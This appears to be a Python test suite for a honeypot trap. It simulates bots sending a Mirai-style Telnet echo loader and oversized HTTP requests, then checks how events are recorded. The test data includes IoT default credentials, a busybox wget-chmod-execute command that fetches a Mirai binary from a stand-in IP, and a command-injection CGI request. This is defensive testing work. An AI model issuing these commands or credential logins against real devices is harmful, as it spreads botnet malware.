"""What the trap records when a client sends more than an event holds: a Mirai-style
echo loader over Telnet (more commands than the record budget keeps), an echo line
longer than the Telnet line buffer, and an HTTP connection whose requests would make
an event past its size limit. Each is sent by a client socket from the client
namespace to the pool address of a sinkholed domain, as a bot would."""

import json
import random

from trapenv import sha256


def drain(s, quiet=0.3):
    """What the trap sends until it is quiet for a moment."""
    got = b""
    s.settimeout(quiet)
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
    except OSError:
        pass
    return got


def until_closed(s, timeout=5):
    s.settimeout(timeout)
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass
    s.close()


def echo_line(data, redirect):
    return ("echo -ne '" + "".join("\\x%02x" % b for b in data) + "' " + redirect + "\r\n").encode()


def assert_stored(env, ev, data, kind, name, since):
    """data was stored as a payload of this connection (fileinfo, file on disk)."""
    sha = sha256(data)
    assert sha in ev["trap"].get("payloads", []), (sha, ev["trap"])
    fi = env.fileinfo(sha, since=since)["fileinfo"]
    assert fi["kind"] == kind
    assert fi["filename"] == name
    assert fi["size"] == len(data)
    assert fi["truncated"] is False
    assert env.payload_path(sha).read_bytes() == data


def test_telnet_mirai_echo_loader(env):
    """132 echo lines build the bot, a wget fetches it: more commands than the record
    budget holds. The first commands are kept, the rest counted; the credentials, the
    URL and the file are kept; the event is whole (not cut)."""
    addr = env.resolve("loader.evil.example")
    rng = random.Random(23)
    blob = bytes(rng.getrandbits(8) for _ in range(128 * 132))
    mark = env.mark()
    s = env.tcp(addr, 23)
    try:
        assert b"login:" in drain(s)
        s.sendall(b"root\r\n")
        drain(s)
        s.sendall(b"xc3511\r\n")
        assert b"BusyBox" in drain(s)
        for i in range(132):
            s.sendall(echo_line(blob[i * 128:(i + 1) * 128], ">> .d"))
            if i % 16 == 0:
                drain(s, 0.05)
        s.sendall(b"/bin/busybox wget http://203.0.113.7/bins/mirai.arm7 -O .x; "
                  b"chmod 777 .x; ./.x\r\nexit\r\n")
        until_closed(s)
    finally:
        s.close()
    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == 23)[0]
    assert "truncated" not in ev, "the event was cut"
    tn = ev["telnet"]
    assert tn["command_count"] == 134
    assert 0 < len(tn["commands"]) < 134
    assert len(tn["commands"]) + tn["commands_not_kept"] == 134
    assert tn["commands"][0] == echo_line(blob[:128], ">> .d").decode()[:512]
    assert tn["urls"] == ["http://203.0.113.7/bins/mirai.arm7"]
    assert tn["echo_files"] == [".d"]
    assert ev["credentials"]["username"] == "root"
    assert ev["credentials"]["password"] == "xc3511"
    assert_stored(env, ev, blob, "telnet_echo_file", ".d", mark)


def test_telnet_echo_line_past_the_line_buffer(env):
    """A 4423-character echo line (1100 bytes as \\xHH) with its redirect at the end: the
    file is rebuilt, the raw line kept as a payload, the line counted."""
    addr = env.resolve("loader.evil.example")
    data = bytes(random.Random(4423).getrandbits(8) for _ in range(1100))
    line = echo_line(data, "> .loader")
    assert len(line) == 4423
    mark = env.mark()
    s = env.tcp(addr, 23)
    try:
        drain(s)
        s.sendall(b"root\r\n")
        drain(s)
        s.sendall(b"vizxv\r\n")
        drain(s)
        s.sendall(line)
        drain(s)
        s.sendall(b"exit\r\n")
        until_closed(s)
    finally:
        s.close()
    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == 23)[0]
    tn = ev["telnet"]
    assert tn["long_lines"] == 1
    assert tn["echo_files"] == [".loader"]
    assert_stored(env, ev, data, "telnet_echo_file", ".loader", mark)
    assert_stored(env, ev, line[:-2], "telnet_line", "line-1.txt", mark)


def walk(v, path="$"):
    """Every (path, value) of a JSON value."""
    yield path, v
    if isinstance(v, dict):
        for k, x in v.items():
            yield from walk(x, f"{path}.{k}")
    elif isinstance(v, list):
        for i, x in enumerate(v):
            yield from walk(x, f"{path}[{i}]")


def test_event_past_the_record_size_is_cut_whole(env):
    """Pipelined HTTP requests whose headers make the connection's event larger than an
    event holds, then the real request. Either it all fits, or the event is cut in the
    one documented way: the fields it has are its beginning, whole (no header without its
    value, no empty object), and it ends with "truncated": true."""
    addr = env.resolve("big.evil.example")
    pad = ("GET /pad HTTP/1.1\r\nHost: x\r\n"
           + "".join(f"X-P{i:02d}: {'A' * 510}\r\n" for i in range(31)) + "\r\n")
    real = ("POST /cgi-bin/EXPLOIT.cgi?cmd=wget+http://203.0.113.7/x.sh HTTP/1.1\r\n"
            "Host: victim\r\nUser-Agent: EVILBOT\r\nContent-Length: 5\r\n"
            "Connection: close\r\n\r\nHELLO")
    mark = env.mark()
    s = env.tcp(addr, 80)
    try:
        s.sendall((pad * 4 + real).encode())
        until_closed(s)
    finally:
        s.close()
    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == 80)[0]
    # The line the store wrote for it is valid JSON.
    line = next(ln for ln in env.st.json_path.read_text().splitlines()
                if f'"event_id":"{ev["event_id"]}"' in ln and '"event_type":"trap"' in ln)
    assert json.loads(line) == ev
    for path, v in walk(ev):
        assert v != {} and v != [], f"{path} is empty"
        if isinstance(v, dict) and "name" in v and path.endswith("]") and "headers" in path:
            assert "value" in v, f"{path}: a header name without its value"
    text = json.dumps(ev)
    if ev.get("truncated") is not True:
        # it all fit: the real request is there
        assert "EXPLOIT.cgi" in text, "fields are missing and the event does not say so"
        return
    assert list(ev)[-1] == "truncated", "fields after the marker"
    # the marker is the last thing the record holds: nothing is written after a cut
    assert line.rstrip().endswith('"truncated":true}')
